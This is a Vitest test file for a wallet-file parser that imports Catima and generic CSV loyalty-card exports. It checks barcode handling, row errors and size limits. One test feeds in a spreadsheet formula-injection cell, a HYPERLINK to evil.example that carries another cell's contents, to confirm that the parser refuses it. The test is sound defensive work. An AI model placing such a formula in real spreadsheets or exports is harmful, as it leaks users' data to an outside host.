import { describe, expect, it } from "vitest";
import { countLoopTurns } from "@/tests/support/loop-turns";
import { AppError, writeError } from "@/lib/http/errors";
import { NO_EXTRAS, parseWalletFile, type CardExtras, type WalletFileRow } from "@/lib/scan/parse-wallet-file";
import { catimaFixture, zipOf } from "@/tests/support/zip-files";

const bytes = (text: string) => new TextEncoder().encode(text);
const parsed = async (input: Uint8Array) => {
  const file = await parseWalletFile(input);
  return {
    ...file,
    problems: file.problems.map((problem) => ({ ...problem, reason: writeError(problem.reason, "en") })),
  };
};
const refusal = async (input: Uint8Array) => {
  try {
    await parseWalletFile(input);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return { code: (error as AppError).code, message: (error as AppError).message };
  }
  throw new Error("not refused");
};

// What the Catima fixture (tests/fixtures/wallets, in Catima's layout) holds,
// as cards: the barcode holds `barcodeid` when there is one (the printed
// `cardid` is kept beside it), a card without a barcode type has no barcode,
// and everything else Catima keeps comes too.
const extras = (given: Partial<CardExtras>): CardExtras => ({ ...NO_EXTRAS, ...given });
const seconds = (value: number) => new Date(value * 1000);
const CATIMA_V2_CARDS = [
  {
    line: 9,
    store: "Farmácia Central",
    value: "FC778812",
    format: "none",
    groups: ["Saúde"],
    extras: extras({ headerColor: "#59a2be", starred: true, lastUsedAt: seconds(1766674633) }),
  },
  {
    line: 10,
    store: "Cartão Jovem",
    value: "990011",
    format: "qr_code",
    groups: [],
    extras: extras({
      note: "Desconto de estudante",
      validFrom: new Date(1601510400),
      expiry: new Date(1618053234),
      balance: "100.00",
      balanceCurrency: "USD",
      headerColor: "#000001",
      lastUsedAt: seconds(1766674620),
      printedNumber: "7788",
    }),
  },
  {
    line: 11,
    store: "Queijaria",
    value: "Queijo São Jorge",
    format: "aztec",
    groups: [],
    extras: extras({ headerColor: "#ad62a7", lastUsedAt: seconds(1766674767), barcodeEncoding: "UTF-8" }),
  },
  {
    line: 12,
    store: "Loja de Roupa",
    value: "b",
    format: "none",
    groups: ["Roupa"],
    extras: extras({ note: "Nota sobre a loja", headerColor: "#ffeb3b", lastUsedAt: seconds(1766674625) }),
  },
  {
    line: 13,
    store: "Armazéns do Chiado",
    value: "B",
    format: "none",
    groups: [],
    extras: extras({ expiry: new Date(1618041729), headerColor: "#67bf74" }),
  },
  {
    line: 14,
    store: "Mercearia",
    value: "mrc",
    format: "none",
    groups: ["Comida"],
    extras: extras({
      note: "Nota de várias linhas sobre a mercearia\n\ncom uma linha em branco",
      balance: "150.00",
      balanceCurrency: "points",
      headerColor: "#67bf74",
      lastUsedAt: seconds(1766674627),
    }),
  },
  {
    line: 17,
    store: "Restaurante",
    value: "65432",
    format: "code_128",
    groups: ["Comida"],
    extras: extras({
      note: "Nota sobre o restaurante",
      headerColor: "#59a2be",
      lastUsedAt: seconds(1766674774),
      printedNumber: "12345678",
      barcodeEncoding: "ISO-8859-1",
    }),
  },
  {
    line: 18,
    store: "Sapataria",
    value: "-4242",
    format: "aztec",
    groups: ["Roupa"],
    extras: extras({ balance: "12.50", balanceCurrency: "EUR", lastUsedAt: seconds(1766674629), printedNumber: "c" }),
  },
].map((card) => ({ ...card, label: "", person: null }));

describe("Catima exports", () => {
  it("reads a version 2 export: groups, cards and their links", async () => {
    expect(await parseWalletFile(catimaFixture("catima-v2.csv"))).toEqual({
      kind: "catima",
      rows: CATIMA_V2_CARDS,
      problems: [],
    });
  });

  it("reads the same cards from the zip Catima exports, each with the pictures named by its _id", async () => {
    const picture = new Uint8Array(64).fill(3);
    const zip = zipOf({
      "catima.csv": catimaFixture("catima-v2.csv"),
      "card_1_front.png": picture,
      "card_1_icon.png": picture,
      // Named as no picture Catima writes, or for no card: passed over.
      "card_1_side.png": picture,
      "card_77_front.png": picture,
    });
    const { rows } = await parseWalletFile(zip);
    // toEqual takes an undefined property as a missing one.
    expect(rows.map((row) => ({ ...row, photos: undefined }))).toEqual(CATIMA_V2_CARDS);
    const pictures = rows.map((row) =>
      Object.entries(row.photos ?? {}).map(([side, photo]) => [row.store, side, photo.name, photo.bytes.byteLength]),
    );
    expect(pictures.flat()).toEqual([
      ["Cartão Jovem", "front", "card_1_front.png", 64],
      ["Cartão Jovem", "icon", "card_1_icon.png", 64],
    ]);
  });

  it("reads the older version 2 layout (other columns, a trailing comma on each row)", async () => {
    const { rows } = await parseWalletFile(catimaFixture("catima-v2-2021.csv"));
    // That layout had no last use, text encoding or archive yet.
    const byStore = (list: WalletFileRow[]) =>
      list
        .map((card) => ({ ...card, line: 0, extras: { ...card.extras, lastUsedAt: null, barcodeEncoding: null } }))
        .sort((a, b) => a.store.localeCompare(b.store));
    expect(byStore(rows)).toEqual(
      byStore(CATIMA_V2_CARDS.filter((card) => card.store !== "Queijaria") as WalletFileRow[]),
    );
  });

  it.each([
    ["catima-v1-starred.csv", "aztec", true],
    ["catima-v1-no-barcode-type.csv", "none", false],
  ])("reads version 1 (%s)", async (name, format, starred) => {
    expect((await parseWalletFile(catimaFixture(name))).rows).toEqual([
      {
        line: 2,
        store: "Papelaria",
        value: "24680",
        format,
        label: "",
        person: null,
        groups: [],
        extras: extras({ note: "caderno", headerColor: "#000001", starred }),
      },
    ]);
  });

  it("keeps a row it cannot read as a problem with its reason", async () => {
    const file = bytes(
      "_id,store,note,cardid,barcodetype\r\n1,,n,111,\r\n2,Lidl,,,\r\nx,Lidl,,333,\r\n4,Lidl,,444,MAXICODE\r\n5,Lidl,,555,EAN_8\r\n",
    );
    expect(await parsed(file)).toEqual({
      kind: "catima",
      rows: [
        {
          line: 6,
          store: "Lidl",
          value: "555",
          format: "ean_8",
          label: "",
          person: null,
          groups: [],
          extras: NO_EXTRAS,
        },
      ],
      problems: [
        { line: 2, reason: "It has no store.", store: null, value: "111" },
        { line: 3, reason: "It has no card number (cardid).", store: "Lidl", value: null },
        { line: 4, reason: "Its _id is not a whole number, as Catima writes it.", store: "Lidl", value: "333" },
        { line: 5, reason: "Its barcode type MAXICODE is not one Labs can draw.", store: "Lidl", value: "444" },
      ],
    });
  });

  it("refuses a layout version it does not know", async () => {
    expect(await refusal(bytes("3\r\n\r\n_id\r\n"))).toEqual({
      code: "validation_failed",
      message: "This is a Catima export of layout version 3; Labs reads versions 1 and 2.",
    });
  });

  it("refuses a zip whose catima.csv is something else", async () => {
    expect((await refusal(zipOf({ "catima.csv": "hello,world\r\n1,2\r\n" }))).message).toBe(
      "The catima.csv in this zip is not a Catima export.",
    );
  });
});

describe("the wallet CSV", () => {
  it("reads store, number, format, label and person, in any order and case, after a BOM", async () => {
    const file = bytes(
      "\uFEFFPerson,Store,Number,Format,Label\r\nAna,Continente,2501234567890,EAN-13,Família\r\n,Lidl,ABC-1,,\r\n\r\n",
    );
    expect(await parseWalletFile(file)).toEqual({
      kind: "csv",
      rows: [
        {
          line: 2,
          store: "Continente",
          value: "2501234567890",
          format: "ean_13",
          label: "Família",
          person: "Ana",
          groups: [],
          extras: NO_EXTRAS,
        },
        {
          line: 3,
          store: "Lidl",
          value: "ABC-1",
          format: null,
          label: "",
          person: null,
          groups: [],
          extras: NO_EXTRAS,
        },
      ],
      problems: [],
    });
  });

  it("reads a note over several lines, an expiry, a balance and its currency, and a card without a barcode", async () => {
    const file = bytes(
      'store,number,format,note,expiry,balance,currency\r\nFnac,GIFT-1,none,"Prenda\r\nPIN 12",2026-12-31,"25,50",EUR\r\nLidl,99,,,2027-01-31T10:00:00Z,120,\r\n',
    );
    expect((await parseWalletFile(file)).rows.map((row) => [row.format, row.extras])).toEqual([
      [
        "none",
        extras({
          note: "Prenda\nPIN 12",
          expiry: new Date("2026-12-31T00:00:00Z"),
          balance: "25.50",
          balanceCurrency: "EUR",
        }),
      ],
      [null, extras({ expiry: new Date("2027-01-31T10:00:00Z"), balance: "120.00", balanceCurrency: "points" })],
    ]);
  });

  it("keeps a row with an unreadable expiry, balance, currency or colour as a problem", async () => {
    const csv = bytes(
      "store,number,expiry,balance,currency\nA,1,31/12/2026,,\nB,2,,lots,\nC,3,,5,euros\nD,4,2026-02-30,,\n",
    );
    expect((await parsed(csv)).problems.map((problem) => [problem.line, problem.reason])).toEqual([
      [2, "The expiry “31/12/2026” is not a date like 2026-12-31."],
      [3, "The balance “lots” is not an amount like 12.50."],
      [4, "The currency “euros” is not a three-letter code like EUR (or points)."],
      [5, "The expiry “2026-02-30” is not a date like 2026-12-31."],
    ]);
    const catima = bytes("_id,store,cardid,headercolor\n1,Lidl,111,red\n");
    expect((await parsed(catima)).problems.map((problem) => problem.reason)).toEqual([
      "The header colour “red” is not a number, as Catima writes colours.",
    ]);
  });

  it("keeps rows with an unknown format or too many cells as problems", async () => {
    const file = bytes("store,number,format\nLidl,1,barcode\nLidl,2,,surplus\n");
    expect((await parsed(file)).problems).toEqual([
      {
        line: 2,
        reason:
          "“barcode” is not a barcode format; use one of ean_13, ean_8, upc_a, upc_e, code_128, code_39, code_93, codabar, itf, qr_code, aztec, data_matrix, pdf417.",
        store: "Lidl",
        value: "1",
      },
      { line: 3, reason: "It has more cells than the header's 3 columns.", store: "Lidl", value: "2" },
    ]);
  });

  it.each([
    ["name,card\nLidl,1\n", /columns Labs does not know \(“name”, “card”\)/],
    ["store,label\nLidl,x\n", /no number column/],
    ["store,number,store\nLidl,1,Aldi\n", /names a column twice/],
    ["", /The file is empty/],
    ['store,number\n"Lidl,1\n', /The CSV cannot be read: Quote Not Closed/],
  ])("refuses wrong columns or a broken CSV: %j", async (text, message) => {
    const refused = await refusal(bytes(text));
    expect(refused.code).toBe("validation_failed");
    expect(refused.message).toMatch(message);
  });

  it("refuses the whole file for a formula cell, naming where it is", async () => {
    const file = bytes('store,number\nLidl,1\n"=HYPERLINK(""http://evil.example/?""&A1,""Win"")",2\n');
    expect(await refusal(file)).toEqual({
      code: "validation_failed",
      message:
        'Line 3, column store: “=HYPERLINK("http://evil.exampl…” is a spreadsheet formula, not a card. Nothing was imported; remove it, or start the cell with an apostrophe to keep it as text.',
    });
  });

  it("reads a formula an export neutralised as the text it was", async () => {
    const file = bytes("store,number,label\nLidl,1,'=1+1\nLidl,-5317,'@home\n");
    expect((await parseWalletFile(file)).rows.map((row) => [row.value, row.label])).toEqual([
      ["1", "=1+1"],
      ["-5317", "@home"],
    ]);
  });

  it("refuses binary that is neither a zip nor UTF-8 text", async () => {
    expect((await refusal(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]))).code).toBe("unsupported_media_type");
  });

  it("refuses a bare CSV larger than 2 MiB before reading it", async () => {
    const big = bytes(`store,number\n${"Lidl,1\n".repeat(400_000)}`);
    expect((await refusal(big)).code).toBe("payload_too_large");
  });
});

describe("barcode values", () => {
  // docs/decisions/027-one-reading-one-value.md: a card keeps its symbol as printed.
  const valuesOf = async (file: Uint8Array) =>
    (await parseWalletFile(file)).rows.map((row) => [row.store, row.value, row.format]);

  it("keeps Catima's Codabar with its start and stop letters, and its UPC-E as 8 digits", async () => {
    const file = bytes(
      "_id,store,note,cardid,barcodeid,barcodetype\r\n" +
        "1,Biblioteca,,1234567890,,CODABAR\r\n" +
        "2,Clube,,B40156D,,CODABAR\r\n" +
        "3,Drogaria,,05096893,,UPC_E\r\n",
    );
    expect(await valuesOf(file)).toEqual([
      ["Biblioteca", "A1234567890A", "codabar"],
      ["Clube", "B40156D", "codabar"],
      ["Drogaria", "05096893", "upc_e"],
    ]);
  });

  it("takes a UPC-E or UPC-A written as a reader gives it as the card prints it", async () => {
    const file = bytes(
      "store,number,format\r\nDrogaria,0050968000093,upc_e\r\nMercado,0036000291452,upc_a\r\nLidl,0036000291452,ean_13\r\nFnac,ABC-1,\r\n",
    );
    expect(await valuesOf(file)).toEqual([
      ["Drogaria", "05096893", "upc_e"],
      ["Mercado", "036000291452", "upc_a"],
      // The same bars as the UPC-A, and what the scanner kept for one: as it is.
      ["Lidl", "0036000291452", "ean_13"],
      ["Fnac", "ABC-1", null],
    ]);
  });
});

describe("large files", () => {
  it("refuses a file of more rows than an import may hold, without reading past them", async () => {
    const many = bytes(`store,number\n${"Lidl,1\n".repeat(10_000)}`);
    expect(await refusal(many)).toEqual({
      code: "payload_too_large",
      message: "This file has more than 10000 rows, the most an import may have. Split the file.",
    });
    // Empty lines are rows too: 2 MiB of them would be a million.
    expect((await refusal(bytes("\n".repeat(2 * 1024 * 1024)))).code).toBe("payload_too_large");
  });

  it("lets the event loop turn while it parses a large CSV", async () => {
    const rows = Array.from({ length: 9_000 }, (_, i) => `Lidl,${1_000_000 + i},Card ${i}`);
    const file = bytes(["store,number,label", ...rows].join("\n"));
    const loop = countLoopTurns();
    const { rows: read } = await parseWalletFile(file);
    const turns = loop.stop();
    expect(read).toHaveLength(9_000);
    // Parsed in one go, as it was, the loop would not turn until the end.
    expect(turns).toBeGreaterThan(0);
  });
});
